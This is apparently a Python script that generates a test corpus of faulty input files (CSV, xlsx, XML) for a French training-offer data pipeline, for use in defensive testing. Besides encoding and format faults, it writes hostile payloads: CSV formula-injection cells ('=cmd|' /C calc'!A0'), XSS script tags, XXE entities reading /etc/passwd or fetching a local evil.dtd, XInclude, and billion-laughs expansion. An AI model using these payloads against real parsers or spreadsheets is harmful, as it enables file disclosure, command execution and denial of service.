"""Generate the corpus of bad inputs (one file per fault) from the demo samples.

    .venv/bin/python tests/data/bad/make_bad.py          # rewrites the corpus in this folder

Each file is named ``<source>_<kind>__<fault>.<ext>`` and derives from the good samples of
``data/samples`` (day 1) with ONE fault planted, so the expected outcome of each file names one
place (line / sheet row, field). The expected outcomes live in ``expected.json`` (read by
``tests/unit/test_bad_inputs.py``) and ``EXPECTED.md`` (for people); they are written by hand,
not by this script. Deterministic: re-running gives byte-identical files.

The EOS files keep the header and the first four sessions of the sample (lines 2-5:
184201, 184203, 184204, 184205) and the first four events; the SIGMA files start from the
day-1 book of ``data/samples/generate_sigma.py``; the SAM files from a one-action offer.
"""

from __future__ import annotations

import codecs
import copy
import csv
import importlib.util
import io
import zipfile
from datetime import datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
SAMPLES = HERE.parents[2] / "data" / "samples"
STAMP = datetime(2026, 11, 19, 5, 30, 0)

# what an external entity points at in the static corpus (the tests build their own secret)
SECRET_URI = "file:///etc/passwd"


def _sigma_module():
    spec = importlib.util.spec_from_file_location("generate_sigma", SAMPLES / "generate_sigma.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


# --- EOS --------------------------------------------------------------------------------------


def _eos_rows(name: str, n: int) -> list[list[str]]:
    text = (SAMPLES / name).read_bytes().decode("cp1252")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    return [rows[0]] + rows[1 : 1 + n]


def eos_sessions() -> list[list[str]]:
    """Header + the first four sessions of the day-1 sample (lines 2-5)."""
    return _eos_rows("eos_sessions_20261119.csv", 4)


def eos_events() -> list[list[str]]:
    """Header + the first four events of the day-1 sample (the fourth spans lines 5-6)."""
    return _eos_rows("eos_evenements_20261119.csv", 4)


def csv_text(rows: list[list[str]], sep: str = ";") -> str:
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=sep, quotechar='"', quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def cp1252(rows: list[list[str]], sep: str = ";") -> bytes:
    return csv_text(rows, sep).encode("cp1252")


def col(rows: list[list[str]], name: str) -> int:
    return rows[0].index(name)


def drop_column(rows: list[list[str]], name: str) -> list[list[str]]:
    i = col(rows, name)
    return [r[:i] + r[i + 1 :] for r in rows]


def set_cell(rows: list[list[str]], line: int, name: str, value: str) -> list[list[str]]:
    """``line`` is the physical line of a one-line record (header = 1)."""
    rows = copy.deepcopy(rows)
    rows[line - 1][col(rows, name)] = value
    return rows


def eos_files() -> dict[str, bytes]:
    s = eos_sessions()
    e = eos_events()
    out: dict[str, bytes] = {}
    out["eos_sessions__empty.csv"] = b""
    out["eos_sessions__blank_lines_only.csv"] = b"\r\n  \r\n;;;\r\n"
    out["eos_sessions__header_only.csv"] = cp1252(s[:1])
    out["eos_sessions__no_header.csv"] = cp1252(s[1:])
    out["eos_sessions__missing_essential_column.csv"] = cp1252(drop_column(s, "Date début session"))
    out["eos_sessions__missing_optional_column.csv"] = cp1252(drop_column(s, "Contact mail"))
    renamed = copy.deepcopy(s)
    renamed[0][col(s, "Identifiant EOS")] = "Identifiant session"
    out["eos_sessions__renamed_key_column.csv"] = cp1252(renamed)
    loose = copy.deepcopy(s)
    loose[0][col(s, "Identifiant EOS")] = "  IDENTIFIANT eos "
    loose[0][col(s, "Date début session")] = "date debut  session"
    out["eos_sessions__header_case_and_accents.csv"] = cp1252(loose)
    dup = copy.deepcopy(s)
    dup[0][col(s, "Lieu")] = "Code postal"
    out["eos_sessions__duplicated_header.csv"] = cp1252(dup)
    out["eos_sessions__wrong_separator_comma.csv"] = cp1252(s, sep=",")
    out["eos_sessions__wrong_separator_tab.csv"] = cp1252(s, sep="\t")
    out["eos_sessions__utf8_instead_of_cp1252.csv"] = csv_text(s).encode("utf-8")
    out["eos_sessions__utf8_bom.csv"] = codecs.BOM_UTF8 + csv_text(s).encode("utf-8")
    out["eos_sessions__utf16.csv"] = csv_text(s).encode("utf-16")
    # line 3 (184203: "ÉCOLE DES MÉTIERS", "à Annecy") in UTF-8, the rest in cp1252
    lines = csv_text(s).split("\r\n")
    mixed = [ln.encode("utf-8") if i == 2 else ln.encode("cp1252") for i, ln in enumerate(lines)]
    out["eos_sessions__mixed_encodings.csv"] = b"\r\n".join(mixed)
    # 0x81 is undefined in cp1252 and is not valid UTF-8 either (line 4)
    undec = cp1252(set_cell(s, 4, "Organisme formateur", "FORMAVENIR SAVOIE"))
    out["eos_sessions__undecodable_byte.csv"] = undec.replace(b"FORMAVENIR SAVOIE", b"FORMAVENIR \x81SAVOIE", 1)
    out["eos_sessions__impossible_date.csv"] = cp1252(set_cell(s, 3, "Date début session", "31/02/27"))
    units = set_cell(s, 2, "Eff. visé tot.", "10 pers.")
    units = set_cell(units, 2, "Durée moy stg Cent", "364 h")
    units = set_cell(units, 2, "Vol H Cent tot.", "3\u00a0640,00")  # spaces inside a number: readable
    units = set_cell(units, 2, "Vol H Ent. tot.", "2 100,00")
    out["eos_sessions__numbers_with_units.csv"] = cp1252(units)
    whole = cp1252(s)
    # the extract stops in the middle of the last record (line 5, 184205), inside "Etat session"
    out["eos_sessions__truncated_row.csv"] = whole[: whole.rfind(";Validée;".encode("cp1252")) + 4]
    quoted = set_cell(s, 3, "Complément d'adresse", 'Salle 2 ; accès "cour"')
    raw = cp1252(quoted)
    out["eos_sessions__unclosed_quote.csv"] = raw[: raw.index(b'""cour""') + 8]  # cut inside the quoted cell
    wide = cp1252(s)
    # an unquoted ";" inside the organisme name of line 4 (184204): one field too many
    out["eos_sessions__unquoted_separator.csv"] = wide.replace(b";FORMAVENIR SAVOIE;", b";FORMAVENIR; SAVOIE;", 1)
    dup_id = set_cell(s, 4, "Identifiant EOS", "184201")
    out["eos_sessions__duplicate_id.csv"] = cp1252(dup_id)
    bad_id = set_cell(s, 3, "Identifiant EOS", "")
    bad_id = set_cell(bad_id, 4, "Identifiant EOS", "18A204")
    out["eos_sessions__invalid_ids.csv"] = cp1252(bad_id)
    unknown = copy.deepcopy(s)
    for r in unknown[1:]:
        r[col(s, "Etat session")] = "En cours"  # no known state in the whole file (crashed the reader once)
    out["eos_sessions__unknown_states_only.csv"] = cp1252(unknown)
    out["eos_sessions__nul_byte.csv"] = cp1252(s).replace(b"FORMAVENIR SAVOIE", b"FORMAVENIR\x00SAVOIE", 1)
    out["eos_sessions__xlsx_renamed.csv"] = (SAMPLES / "sigma_actions_20261119.xlsx").read_bytes()[:4096]
    # hostile text for the output-safety tests: formulas and markup in free-text cells.
    # 184201-184204 stay publishable (184203 only gets a DQ012 warning, so that its training
    # body shows in the report); 184205 gets a blocking DQ000 on a hostile "Date état".
    hostile = set_cell(s, 2, "Libellé grand public", '=HYPERLINK("http://example.invalid/x","clic")')
    hostile = set_cell(hostile, 2, "Contact nom", "=cmd|' /C calc'!A0")
    hostile = set_cell(hostile, 3, "Libellé grand public", "+cmd|' /C notepad'!A0")
    hostile = set_cell(hostile, 3, "Organisme formateur", '"><img src=x onerror=alert(1)> ÉCOLE')
    hostile = set_cell(hostile, 3, "Vol H Cent tot.", "1,00")
    hostile = set_cell(hostile, 4, "Libellé grand public", "-1+1")
    hostile = set_cell(hostile, 4, "Complément d'adresse", "\t=1+1")
    hostile = set_cell(hostile, 4, "Contact nom", "@SUM(A1:A9)")
    hostile = set_cell(hostile, 5, "Organisme formateur", "<script>alert('xss')</script> FORMATION")
    hostile = set_cell(hostile, 5, "Complément d'adresse", "</pre><script>alert(2)</script>")
    hostile = set_cell(hostile, 5, "Date état", "<script>alert(3)</script>")
    out["eos_sessions__hostile_text.csv"] = cp1252(hostile)

    out["eos_evenements__missing_essential_column.csv"] = cp1252(drop_column(e, "Heure de fin"))
    ev = set_cell(e, 2, "Heure de début", "25:00")
    ev = set_cell(ev, 3, "Heure de fin", "midi")
    ev = set_cell(ev, 4, "Date de début", "31/02/2027")
    out["eos_evenements__bad_hours_and_dates.csv"] = cp1252(ev)
    out["eos_evenements__header_only.csv"] = cp1252(e[:1])
    return out


# --- SIGMA ------------------------------------------------------------------------------------


def sigma_files() -> dict[str, bytes]:
    g = _sigma_module()
    good = g.build(g.DAY1_BOOK, STAMP)
    book = copy.deepcopy(g.DAY1_BOOK)

    def build(b) -> bytes:
        return g.build(b, STAMP)

    def sheet_cell(b, sheet: str, row: int, header: str, value):
        """``row`` is the sheet row (header = 1)."""
        b = copy.deepcopy(b)
        headers, rows = b[sheet]
        rows[row - 2][headers.index(header)] = value
        return b

    out: dict[str, bytes] = {}
    out["sigma_actions__empty.xlsx"] = b""
    out["sigma_actions__not_a_zip.xlsx"] = cp1252(eos_sessions())
    out["sigma_actions__truncated.xlsx"] = good[: len(good) // 2]
    b = copy.deepcopy(book)
    del b["Sessions"]
    out["sigma_actions__missing_sheet.xlsx"] = build(b)
    b = copy.deepcopy(book)
    b = {("sessions " if k == "Sessions" else k): v for k, v in b.items()}
    out["sigma_actions__sheet_name_case.xlsx"] = build(b)
    b = copy.deepcopy(book)
    headers, rows = b["Sessions"]
    i = headers.index("Date début")
    b["Sessions"] = (headers[:i] + headers[i + 1 :], [r[:i] + r[i + 1 :] for r in rows])
    out["sigma_actions__missing_column.xlsx"] = build(b)
    b = copy.deepcopy(book)
    headers, rows = b["Sessions"]
    b["Sessions"] = (headers + ["Nb. de places"], [r + [99] for r in rows])
    out["sigma_actions__duplicated_header.xlsx"] = build(b)
    b = copy.deepcopy(book)
    headers, rows = b["Sessions"]
    b["Sessions"] = ([""] * len(headers), rows)
    out["sigma_actions__sheet_without_header.xlsx"] = build(b)
    out["sigma_actions__impossible_date.xlsx"] = build(sheet_cell(book, "Sessions", 2, "Date début", "31/02/2027"))
    b = sheet_cell(book, "Sessions", 2, "Nb. de places", "12 places")
    b = sheet_cell(b, "Composantes", 2, "Effectif", "1 200")
    out["sigma_actions__numbers_with_units.xlsx"] = build(b)
    b = copy.deepcopy(book)
    headers, rows = b["Sessions"]
    for r in rows:
        r[headers.index("Statut")] = "Clôturée"  # no known status in the sheet (crashed the reader once)
    out["sigma_actions__unknown_statuses_only.xlsx"] = build(b)
    out["sigma_actions__xxe.xlsx"] = _xlsx_with_doctype(good, "xxe")
    out["sigma_actions__billion_laughs.xlsx"] = _xlsx_with_doctype(good, "laughs")
    return out


XXE_DOCTYPE = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{SECRET_URI}">]>'
LAUGHS_DOCTYPE = (
    '<!DOCTYPE worksheet [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
SESSIONS_PART = "xl/worksheets/sheet3.xml"  # the third sheet of the book: Sessions
PLANTED_CELL = "Claire DUPONT"  # Contact nom of Sessions row 2 (sigma:26P0001234_AGRI_1:01:01)


def _xlsx_with_doctype(good: bytes, attack: str, secret_uri: str = SECRET_URI) -> bytes:
    """The good workbook with a DOCTYPE planted in the Sessions sheet part.

    ``xxe``: an external entity (``secret_uri``) replaces the contact name of Sessions row 2;
    ``laughs``: the billion-laughs entities, that contact name is ``&l9;``.
    """
    src = zipfile.ZipFile(io.BytesIO(good))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            payload = src.read(info.filename)
            if info.filename == SESSIONS_PART:
                text = payload.decode("utf-8")
                head_end = text.index("?>") + 2 if text.startswith("<?xml") else 0
                if attack == "xxe":
                    doctype, ref = XXE_DOCTYPE.replace(SECRET_URI, secret_uri), "&xxe;"
                else:
                    doctype, ref = LAUGHS_DOCTYPE, "&l9;"
                assert PLANTED_CELL in text
                text = text[:head_end] + doctype + text[head_end:].replace(PLANTED_CELL, ref, 1)
                payload = text.encode("utf-8")
            zi = zipfile.ZipInfo(info.filename, date_time=STAMP.timetuple()[:6])
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o600 << 16
            dst.writestr(zi, payload)
    return out.getvalue()


# --- SAM --------------------------------------------------------------------------------------

SAM_BODY = """<sam-export date-extraction="2026-11-19">
  <marche numero="M2614701" programme="Former Pour l'Emploi 2026-2029" dossier="2026C007314701">
    <titulaire siret="44306184100047" nda="84630123463" raison-sociale="HECATE FORMATION"/>
    <lot numero="147" debut="2026-01-05" fin="2026-12-31" fin-execution="2027-06-30">
      <intitule>Métiers du thermalisme et de la montagne</intitule>
      <action numero="1" sessions-envisagees="3" effectif="10" duree-centre="364" duree-entreprise="210"
              formacode="42829" rome="K2110" certifiante="oui" code-rncp="RNCP35412">
        <intitule>{title}</intitule>
      </action>
    </lot>
  </marche>
</sam-export>
"""
DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def sam(title: str = "Agent thermal - Titre Agent thermal", doctype: str = "", decl: str = DECL) -> str:
    return decl + (doctype + "\n" if doctype else "") + SAM_BODY.format(title=title)


def sam_attacks(secret_uri: str = SECRET_URI, port: int = 9) -> dict[str, str]:
    """The XML attacks on the SAM offer, as text (the integration tests re-make them with their
    own secret file and port)."""
    net = f"http://127.0.0.1:{port}"
    laughs = "".join(f'  <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
    return {
        "sam_offre__billion_laughs.xml": sam(
            "&lol9;", '<!DOCTYPE sam-export [\n  <!ENTITY lol0 "lol">\n' + laughs + "]>"
        ),
        "sam_offre__quadratic_blowup.xml": sam(
            "&a;" * 2000, '<!DOCTYPE sam-export [<!ENTITY a "' + "x" * 20000 + '">]>'
        ),
        "sam_offre__xxe_file.xml": sam("&xxe;", f'<!DOCTYPE sam-export [<!ENTITY xxe SYSTEM "{secret_uri}">]>'),
        "sam_offre__xxe_network.xml": sam("&xxe;", f'<!DOCTYPE sam-export [<!ENTITY xxe SYSTEM "{net}/secret">]>'),
        "sam_offre__external_dtd.xml": sam(doctype=f'<!DOCTYPE sam-export SYSTEM "{net}/sam.dtd">'),
        "sam_offre__external_dtd_file.xml": sam(doctype=f'<!DOCTYPE sam-export SYSTEM "{secret_uri}">'),
        "sam_offre__parameter_entity.xml": sam(
            "&exfil;",
            f'<!DOCTYPE sam-export [\n  <!ENTITY % file SYSTEM "{secret_uri}">\n'
            f'  <!ENTITY % dtd SYSTEM "{net}/evil.dtd">\n  %dtd;\n]>',
        ),
        "sam_offre__doctype_after_comment.xml": sam(
            "&xxe;", f'<!-- export SAM -->\n<?pi x?>\n<!DOCTYPE sam-export [<!ENTITY xxe SYSTEM "{secret_uri}">]>'
        ),
        "sam_offre__schema_location.xml": sam().replace(
            '<sam-export date-extraction="2026-11-19">',
            '<sam-export xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:noNamespaceSchemaLocation="{net}/evil.xsd" date-extraction="2026-11-19">',
        ),
        "sam_offre__xinclude.xml": sam(
            "Agent thermal",
        ).replace(
            "<intitule>Agent thermal</intitule>",
            '<intitule>Agent thermal</intitule>\n        <objectif><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'href="{secret_uri}" parse="text"/></objectif>',
        ),
    }


def sam_files() -> dict[str, bytes]:
    out: dict[str, bytes] = {name: text.encode("utf-8") for name, text in sam_attacks().items()}
    # UTF-16 with a DOCTYPE: the byte scan of the prolog must see through the encoding
    out["sam_offre__utf16_doctype.xml"] = sam(
        "&xxe;",
        f'<!DOCTYPE sam-export [<!ENTITY xxe SYSTEM "{SECRET_URI}">]>',
        decl='<?xml version="1.0" encoding="UTF-16"?>\n',
    ).encode("utf-16")
    out["sam_offre__internal_dtd.xml"] = sam(doctype="<!DOCTYPE sam-export [\n  <!ELEMENT sam-export ANY>\n]>").encode(
        "utf-8"
    )
    deep = 10_000
    out["sam_offre__deep_nesting.xml"] = sam("<x>" * deep + "profond" + "</x>" * deep).encode("utf-8")
    out["sam_offre__empty.xml"] = b""
    whole = sam().encode("utf-8")
    out["sam_offre__truncated.xml"] = whole[: whole.index(b"</intitule>", whole.index(b"<action")) + 5]
    out["sam_offre__cp1252_declared_utf8.xml"] = sam().encode("cp1252")
    out["sam_offre__wrong_root.xml"] = sam().replace("sam-export", "offre-export").encode("utf-8")
    return out


def all_files() -> dict[str, bytes]:
    return {**eos_files(), **sigma_files(), **sam_files()}


def _cell(value) -> str:
    text = "" if value is None else str(value)
    return text.replace("|", "\\|").replace("\n", " ").replace("\x00", "\\0")


def expected_markdown(expected: dict) -> str:
    """EXPECTED.md, the human view of ``expected.json`` (the tests check they agree)."""
    lines = [
        "# Bad inputs: expected outcomes",
        "",
        "Generated from `expected.json` by `make_bad.py` (edit the JSON, then re-run the script).",
        "One file per fault, derived from the day-1 samples; `tests/unit/test_bad_inputs.py` reads each",
        "file with its reader and checks the outcome below, the row conservation, the French messages",
        "and that no exception escapes. Line = CSV line (header = 1), sheet row (header = 1) or XML line;",
        "empty when the finding is on the whole file. `ok` = the file met its contract as a whole.",
        "",
        "| file | fault | ok | rows read | kept / quarantined | rule | severity | line | field | message (excerpt) |",
        "|---|---|---|---|---|---|---|---|---|---|",
    ]
    for name, e in expected.items():
        kept = sum(e["tables"].values())
        rows = sum(e["rows_read"].values())
        head = (
            f"| `{name}` | {_cell(e['fault'])} | {'oui' if e['ok'] else 'non'} | {rows} | {kept} / {e['quarantine']} "
        )
        findings = e["findings"] or [None]
        for i, f in enumerate(findings):
            prefix = head if i == 0 else "| | | | | "
            if f is None:
                lines.append(prefix + "| — | | | | aucune erreur |")
                continue
            field = f.get("field")
            if f.get("sheet"):
                field = f"{f['sheet']} › {field}" if field and field != f["sheet"] else f["sheet"]
            lines.append(
                prefix
                + f"| {f['rule']} | {f['severity']} | {_cell(f.get('line'))} | {_cell(field)} | {_cell(f['message'])} |"
            )
    return "\n".join(lines) + "\n"


def main() -> int:
    import json

    files = all_files()
    for name, data in sorted(files.items()):
        (HERE / name).write_bytes(data)
    expected = json.loads((HERE / "expected.json").read_text(encoding="utf-8"))
    (HERE / "EXPECTED.md").write_text(expected_markdown(expected), encoding="utf-8")
    print(f"{len(files)} files and EXPECTED.md written in {HERE}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
